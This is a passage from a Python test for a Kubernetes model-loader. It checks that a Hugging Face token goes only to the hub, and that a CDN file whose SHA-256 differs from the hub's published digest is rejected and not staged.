  source: hf://org/repo/m.gguf
  sourceSecretRef: {name: hf}
---
apiVersion: inference.llmkube.dev/v1alpha1
kind: InferenceService
metadata: {name: s}
spec: {modelRef: m, runtime: llamacpp}
""",
                )

                async def loader() -> dict[str, Any] | None:
                    dep = await kube.get(DEPLOYMENT, "default", "s")
                    pod = dep["spec"]["template"]["spec"] if dep else {}
                    found = [
                        c for c in pod.get("initContainers") or [] if c["name"] == "model-loader"
                    ]
                    return found[0] if found else None

                container = await eventually(loader, what="the Deployment's loader")
            env = _pod_env(container, {("hf", "HF_TOKEN"): "hf_secret"})
            env["CURL_CA_BUNDLE"] = ca
            rc, msg, out = run(tmp_path, env)
            assert rc == 0, out
            assert msg["files"] == [
                {"name": "m.gguf", "size": len(BODY), "sha256": SUM, "digestSource": "hub"}
            ]
            assert hub.auth == [("/org/repo/resolve/main/m.gguf", "Bearer hf_secret")]
            assert cdn.auth == [("/lfs/m.gguf", None)]
            # The CDN serves other bytes than the hub published: nothing is staged.
            cdn.files["/lfs/m.gguf"] = EVIL
            (tmp_path / "models/m.gguf").unlink()
            rc, msg, out = run(tmp_path, env, pod="pod-b")
            assert rc == 1 and msg["error"] == "Sha256Mismatch", out
            assert msg["expectedFrom"] == "hub" and msg["actual"] == EVIL_SUM
            assert not (tmp_path / "models/m.gguf").exists()
